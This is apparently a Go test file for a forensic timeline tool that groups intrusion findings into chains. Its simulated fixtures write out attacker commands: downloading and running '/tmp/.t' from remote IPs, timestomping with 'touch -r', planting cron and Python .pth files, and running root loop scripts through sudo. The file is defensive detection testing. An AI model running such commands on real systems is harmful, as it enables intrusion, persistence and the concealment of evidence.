package timeline

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/auditchain/auditchain/detect"
	"github.com/auditchain/auditchain/parser"
)

// droppedScene: one web shell downloads /tmp/.t with curl -o; another
// unit of work (a second web shell) then runs it from one process that
// execs n times, each exec a finding. It returns the download's finding
// and the runner's, and the bytes of argv the linker reads.
func droppedScene(t testing.TB, n int) (s *sim, dl *detect.Finding, runs []*detect.Finding, argBytes int64) {
	s = newSim(t, Options{})
	s.webServer()
	a := shellOf(300, worker1, "/tmp")
	dl = s.find(s.exec(10, a, "curl", "-o", "/tmp/.t", "http://198.51.100.9/t"), detect.StageCommandExecution, detect.SeverityHigh, "Download")
	b := shellOf(400, worker2, "/tmp")
	for i := range n {
		args := []string{"sh", "-c", fmt.Sprintf("/tmp/.t --round %d > /dev/null", i)}
		for _, a := range args {
			argBytes += int64(len(a))
		}
		runs = append(runs, s.find(s.exec(20+float64(i)/1000, b, args...), detect.StageSuspiciousSpawn, detect.SeverityHigh, "Dropped Tool"))
	}
	return s, dl, runs, argBytes
}

// The file link still joins the two units of work, from any of the
// runner's findings.
func TestLinkDroppedFileManyExecs(t *testing.T) {
	s, dl, runs, _ := droppedScene(t, 50)
	r := s.build()
	c := chainOf(r, dl)
	if c == nil {
		t.Fatal("download in no chain")
	}
	wantIn(t, r, c, "file link", runs...)
	// curl -o says it wrote the file; no write record does
	if !hasLink(c, "file: /tmp/.t written (by its command line: no record of the write) by pid 300 (curl)", "named in the arguments of") {
		t.Errorf("links %q", c.Links)
	}
}

// A file one unit of work hid by a timestomp (touch -r), written where no
// record shows it, ties a later run of it to that unit; the link says the
// tie is inferred and how. A plain touch (the time of now) hides nothing.
func TestLinkTimestompedFile(t *testing.T) {
	for _, c := range []struct {
		touch []string
		want  bool
	}{
		{[]string{"touch", "-r", "/etc/hosts", "/usr/share/php/.z.tcl"}, true},
		{[]string{"touch", "/usr/share/php/.z.tcl"}, false},
	} {
		s := newSim(t, Options{})
		s.webServer()
		a := shellOf(300, worker1, "/tmp")
		st := s.find(s.exec(10, a, c.touch...), detect.StageExfiltrationImpact, detect.SeverityHigh, "File Times Set")
		b := shellOf(400, worker2, "/tmp")
		run := s.find(s.exec(20, b, "tclsh", "/usr/share/php/.z.tcl"), detect.StagePersistence, detect.SeverityHigh, "Planted File Run")
		r := s.build()
		ca, cb := chainOf(r, st), chainOf(r, run)
		if got := ca != nil && ca == cb && hasLink(ca, "file: /usr/share/php/.z.tcl hidden by a timestomp (inferred: whoever hides a file placed it; no record of its write) of pid", "named in the arguments of"); got != c.want {
			t.Errorf("%q: linked %v, want %v", c.touch, got, c.want)
		}
	}
}

// BenchmarkLinkDroppedFiles: per op, the linker (all rules; the
// dropped-file rule is the one that reads every exec) over one process
// that execs n times with a finding on each. ns/op should grow with n, and
// MB/s stay flat across the sizes: one process with many execs and a
// finding on each costs linear time, not execs × findings. (A unit test
// timed 500 against 4 000 execs once; on the shared 2-core machine it
// failed under load with nothing changed, so the benchmark is the measure.)
func BenchmarkLinkDroppedFiles(b *testing.B) {
	for _, n := range []int{1000, 4000} {
		b.Run(fmt.Sprintf("execs=%d", n), func(b *testing.B) {
			s, _, _, argBytes := droppedScene(b, n)
			b.SetBytes(argBytes)
			b.ReportAllocs()
			b.ResetTimer()
			for range b.N {
				newLinker(s.b, s.tree, s.findings, causality{}).link()
			}
		})
	}
}

// A name is linked to its latest writer before the use, not to its first:
// a long archive reuses /tmp/.t, and the tool one intruder fetched two
// hours earlier is not the one a later shell fetched again and ran.
func TestLinkDroppedFileLatestWriter(t *testing.T) {
	s := newSim(t, Options{})
	s.webServer()
	a := shellOf(300, worker1, "/tmp")
	first := s.find(s.exec(10, a, "curl", "-o", "/tmp/.t", "http://198.51.100.9/t"), detect.StageCommandExecution, detect.SeverityHigh, "Download")
	b := shellOf(400, worker2, "/tmp")
	again := s.find(s.exec(7200, b, "curl", "-o", "/tmp/.t", "http://203.0.113.4/t"), detect.StageCommandExecution, detect.SeverityHigh, "Download")
	run := s.find(s.exec(7201, child(401, b), "sh", "-c", "/tmp/.t --round 1"), detect.StageSuspiciousSpawn, detect.SeverityHigh, "Dropped Tool")
	r := s.build()
	c := chainOf(r, again)
	wantIn(t, r, c, "the run belongs with the download just before it", run)
	wantOut(t, r, c, "the download two hours earlier is another writer's", first)
	if hasLink(c, "file: /tmp/.t written", "by pid 300 (curl)") {
		t.Errorf("links %q name the first writer", c.Links)
	}
}

// TestChmodRunnableIsPrepared: a file made runnable was prepared to run by
// whoever did it (shop-search: the PAM hook's script, written by a shell
// redirection the log cannot see, then chmod 755 in the intruder's root
// channel): its later run ties back to them. A mode with no execute bit
// prepares nothing. A copy, an install or a move writes its destination.
func TestChmodRunnableIsPrepared(t *testing.T) {
	for _, c := range []struct {
		args []string
		want []string
	}{
		{[]string{"chmod", "755", "/usr/lib/x86_64-linux-gnu/security/pam_sync.sh"}, []string{"/usr/lib/x86_64-linux-gnu/security/pam_sync.sh"}},
		{[]string{"chmod", "+x", "/tmp/a", "/tmp/b"}, []string{"/tmp/a", "/tmp/b"}},
		{[]string{"chmod", "u+rwx", "/tmp/a"}, []string{"/tmp/a"}},
		{[]string{"chmod", "644", "/tmp/a"}, nil},
		{[]string{"chmod", "go-x", "/tmp/a"}, nil},
		// a redirection's word ends where the shell's list goes on
		{[]string{"/bin/sh", "-c", "echo aGk= | base64 -d > /opt/v/lib/python3.11/site-packages/x.pth; touch -r a b"}, []string{"/opt/v/lib/python3.11/site-packages/x.pth"}},
		{[]string{"/bin/sh", "-c", "echo x >/etc/cron.d/j&& id"}, []string{"/etc/cron.d/j"}},
		// a copy or a move writes its destination (tallyhall-xslt: root's
		// hook copied the dropped implant into /usr/local/lib, which no
		// watch covers; a login later ran it from there)
		{[]string{"cp", "/var/tmp/.t/tsync.py", "/usr/local/lib/ts/tsync.py"}, []string{"/usr/local/lib/ts/tsync.py"}},
		{[]string{"install", "-m", "755", "/tmp/a", "/tmp/b", "/usr/local/bin/"}, []string{"/usr/local/bin/a", "/usr/local/bin/b"}},
		{[]string{"mv", "-f", "/tmp/x", "/opt/y"}, []string{"/opt/y"}},
		{[]string{"cp", "-t", "/usr/local/bin", "/tmp/a"}, nil},
		{[]string{"cp", "/tmp/a", "rel/b"}, nil},
	} {
		if got := outputsOf(c.args); !slices.Equal(got, c.want) {
			t.Errorf("outputsOf(%q) = %q, want %q", c.args, got, c.want)
		}
	}
}

func TestPathsInOptionValues(t *testing.T) {
	for _, c := range []struct {
		args []string
		want []string
	}{
		{[]string{"java", "-javaagent:/srv/w/.j/s.jar=/srv/w/.j/r.sh", "-cp", "/srv/a.jar:/srv/b.jar", "M"},
			[]string{"/srv/w/.j/s.jar", "/srv/w/.j/r.sh", "/srv/a.jar:/srv/b.jar", "/srv/a.jar", "/srv/b.jar"}},
		{[]string{"tool", "--file=/tmp/x"}, []string{"/tmp/x"}},
		{[]string{"curl", "http://203.0.113.9:8080/a/b"}, nil},
		{[]string{"cat", "/etc/passwd"}, []string{"/etc/passwd"}},
	} {
		if got := pathsIn(c.args, ""); !slices.Equal(got, c.want) {
			t.Errorf("pathsIn(%q) = %q, want %q", c.args, got, c.want)
		}
	}
}

// A folder one unit of work made is its staging: a later shell reading a
// file in it that no record shows written (the output of the chain's
// script, which root ran) joins the chain, said as inferred. A folder
// made by every request (the application's mkdir -p before each
// invoice) is no one's.
func TestLinkMadeFolder(t *testing.T) {
	s := newSim(t, Options{})
	s.webServer()
	a := shellOf(300, worker1, "/srv/app")
	stage := s.find(s.exec(10, a, "sh", "-c", "mkdir -p /srv/app/work/.j && cat > /srv/app/work/.j/s.jar"), detect.StageCommandExecution, detect.SeverityHigh, "Staging")
	s.exec(10.01, child(301, a), "mkdir", "-p", "/srv/app/work/.j")
	b := shellOf(400, worker2, "/srv/app")
	poll := s.find(s.exec(30, b, "sh", "-c", "cat /srv/app/work/.j/o.txt 2>/dev/null"), detect.StageCommandExecution, detect.SeverityMedium, "Shell")
	r := s.build()
	c := chainOf(r, stage)
	if c == nil {
		t.Fatal("staging in no chain")
	}
	wantIn(t, r, c, "folder link", poll)
	if !hasLink(c, "folder: /srv/app/work/.j made by pid 301 (mkdir)", "inferred") {
		t.Errorf("links %q", c.Links)
	}

	// the application's own folder, made before every invoice
	s = newSim(t, Options{})
	s.webServer()
	var first *detect.Finding
	for i, w := range []who{shellOf(500, worker1, "/var/www"), shellOf(600, worker2, "/var/www")} {
		f := s.find(s.exec(float64(10+i), w, "sh", "-c", "mkdir -p /var/www/html/invoices && mkinvoice > /var/www/html/invoices/INV-1.pdf"), detect.StageCommandExecution, detect.SeverityMedium, "Shell")
		s.exec(float64(10+i)+0.01, child(501+100*i, w), "mkdir", "-p", "/var/www/html/invoices")
		if first == nil {
			first = f
		}
	}
	other := s.find(s.exec(40, shellOf(700, worker1, "/var/www"), "sh", "-c", "cat /var/www/html/invoices/INV-2.pdf"), detect.StageCommandExecution, detect.SeverityMedium, "Shell")
	r = s.build()
	wantOut(t, r, chainOf(r, first), "a folder made by every request", other)
	if c := chainOf(r, other); c != nil && hasLink(c, "folder:", "") {
		t.Errorf("a folder made by every request linked: %q", c.Links)
	}
}

func TestMadeFolders(t *testing.T) {
	for _, c := range []struct {
		args []string
		cwd  string
		want []string
	}{
		{[]string{"mkdir", "-p", "/srv/a/.j"}, "", []string{"/srv/a/.j"}},
		{[]string{"/bin/mkdir", "-m", "700", "x", "/tmp/.y/"}, "/srv", []string{"/srv/x", "/tmp/.y"}},
		{[]string{"mkdir", "rel"}, "", nil},
		{[]string{"rmdir", "/tmp/x"}, "", nil},
	} {
		if got := madeFolders(c.args, c.cwd); !slices.Equal(got, c.want) {
			t.Errorf("madeFolders(%q, %q) = %q, want %q", c.args, c.cwd, got, c.want)
		}
	}
}

// A marker echo detection took for a just-planted script being tried
// (TriedScript) joins the unit of work that wrote that script, said as
// inferred; a later touch of the same name by someone else is not its
// writer, and a script the server wrote itself has no unit to join.
func TestLinkTriedScript(t *testing.T) {
	s := newSim(t, Options{})
	s.webServer()
	a := shellOf(300, worker1, "/var/www")
	w := s.write(10, child(301, a), parser.KindFileWrite, "/var/www/html/x.php")
	plant := s.find(w, detect.StageWebshellUpload, detect.SeverityHigh, "Script Written")
	s.write(12, who{pid: 900, ppid: 1, uid: 0, exe: "/usr/bin/touch", cwd: "/root", user: "root"}, parser.KindFileWrite, "/var/www/html/x.php") // someone's later touch
	b := shellOf(400, worker2, "/var/www")
	echo := s.find(s.exec(15, b, "sh", "-c", "echo ok-1"), detect.StageWebshellUpload, detect.SeverityMedium, "Web Server Exploitation")
	echo.TriedScript, echo.TriedAt = "/var/www/html/x.php", w.Time
	r := s.build()
	c := chainOf(r, plant)
	if c == nil {
		t.Fatal("the plant in no chain")
	}
	wantIn(t, r, c, "tried-script link", echo)
	if !hasLink(c, "file: /var/www/html/x.php written into the served tree by pid 301", "inferred") {
		t.Errorf("links %q", c.Links)
	}
}

// A root loop script the web shell started (sh /dev/shm/.ng/m.sh) runs its
// tasks in subshells the log never shows: each task's shell names an
// unseen parent. The family joins the script's chain when no other shell
// of that user started in that folder between the two pids while the family
// starts; a second such script, or the folder /, leaves it alone.
func TestLinkScriptFamilies(t *testing.T) {
	const dir = "/var/www/html/themes"
	for _, c := range []struct {
		name   string
		cwd    string
		second bool // another root script runs in the same folder
		want   bool
	}{
		{"the only script there", dir, false, true},
		{"two scripts there", dir, true, false},
		{"the root folder", "/", false, false},
	} {
		t.Run(c.name, func(t *testing.T) {
			s := newSim(t, Options{})
			s.webServer()
			a := shellOf(300, worker1, c.cwd)
			loop := who{pid: 310, ppid: 1, uid: 0, cwd: c.cwd, user: "root"}
			run := s.find(s.exec(10, loop, "/bin/sh", "/dev/shm/.ng/m.sh"), detect.StageSuspiciousSpawn, detect.SeverityHigh, "Program Run From A Temporary Directory")
			s.find(s.exec(9.9, a, "sh", "-c", "sudo -n setsid -f /bin/sh /dev/shm/.ng/m.sh"), detect.StageSuspiciousSpawn, detect.SeverityHigh, "Web Server Exploitation")
			if c.second {
				s.exec(10.5, who{pid: 320, ppid: 1, uid: 0, cwd: c.cwd, user: "root"}, "/bin/sh", "/usr/local/bin/other.sh")
			}
			s.exec(11, child(311, loop), "curl", "-s", "imap://127.0.0.1:1143/INBOX")
			s.exec(20, child(330, loop), "sleep", "1")
			task := who{pid: 326, ppid: 325, uid: 0, cwd: c.cwd, user: "root"} // its parent, 325, never seen
			tf := s.find(s.exec(15, task, "sh", "-c", "id; hostname"), detect.StageCommandExecution, detect.SeverityMedium, "Web Server Exploitation")
			r := s.build()
			cr, ct := chainOf(r, run), chainOf(r, tf)
			if got := cr != nil && cr == ct && hasLink(cr, "script's subshell (inferred): pid 325", "no other shell of that user started in that folder between the two pids"); got != c.want {
				dumpChains(t, r)
				t.Errorf("task joined the loop's chain: %v, want %v", got, c.want)
			}
		})
	}
}

// The shell index answers "maybe" when it could not keep a folder whole:
// past its bound a family is left alone, never linked on a partial view.
func TestShellIndexBounded(t *testing.T) {
	var x shellIndex
	tr := parser.NewTree()
	at := time.Date(2026, 12, 6, 11, 0, 0, 0, time.UTC)
	for i := range maxShellsPerFolder + 1 {
		ev := &parser.Event{Kind: parser.KindExec, Syscall: "execve", Success: true, PID: 1000 + i, PPID: 900, UID: parser.NewID(0), Exe: "/usr/bin/dash", Cwd: "/srv/app", Time: at}
		tr.Observe(ev)
		x.note(ev)
	}
	if !x.other("", "/srv/app", 0, 1, 5000, at) {
		t.Error("an overflowed folder must answer maybe")
	}
	if x.other("", "/srv/other", 0, 1, 5000, at) {
		t.Error("a folder with no shell, the table not full, has none")
	}
}

// A folder removed whole (rm -r) by one unit of work with a file inside
// it that another wrote (shop-avatar: the web shell's commands wrote
// their output into /var/tmp/storefront-cache, root's task removed the
// folder) joins the two; removing a top folder (/tmp) names no one's
// staging, and a removal of a file by name is linkDroppedFiles' own.
func TestLinkRemovedFolder(t *testing.T) {
	for _, c := range []struct {
		name, rm string
		want     bool
	}{
		{"the staging folder removed", "rm -rf /var/tmp/stage", true},
		{"a top folder", "rm -rf /var/tmp", false},
		{"not recursive", "rm -f /var/tmp/stage", false},
	} {
		t.Run(c.name, func(t *testing.T) {
			s := newSim(t, Options{})
			s.webServer()
			a := shellOf(300, worker1, "/var/www/html")
			shell := s.find(s.exec(10, a, "sh", "-c", "exec >/var/tmp/stage/.q 2>&1; id; sudo -n -l"), detect.StageCommandExecution, detect.SeverityHigh, "Shell")
			root := who{pid: 900, ppid: 1, uid: 0, exe: "/usr/bin/dash", cwd: "/"}
			s.exec(40, root, "sh", "-c", c.rm)
			args := strings.Fields(c.rm)
			gone := s.find(s.exec(40.01, child(901, root), args...), detect.StageExfiltrationImpact, detect.SeverityHigh, "Removal")
			r := s.build()
			if c.want {
				wantIn(t, r, chainOf(r, shell), "folder removed", gone)
				if !hasLink(chainOf(r, shell), "folder: /var/tmp/stage removed with everything in it", "") {
					t.Errorf("links %q", chainOf(r, shell).Links)
				}
			} else {
				wantOut(t, r, chainOf(r, shell), "no staging folder", gone)
			}
		})
	}
	for _, c := range []struct {
		args []string
		want bool
	}{
		{[]string{"rm", "-rf", "/x/y"}, true},
		{[]string{"/bin/rm", "-R", "/x/y"}, true},
		{[]string{"rm", "--recursive", "/x/y"}, true},
		{[]string{"rm", "-f", "/x/y"}, false},
		{[]string{"rm", "--", "-r"}, false},
		{[]string{"rmdir", "-p", "/x/y"}, false},
	} {
		if got := removesTree(c.args); got != c.want {
			t.Errorf("removesTree(%q) = %v, want %v", c.args, got, c.want)
		}
	}
}
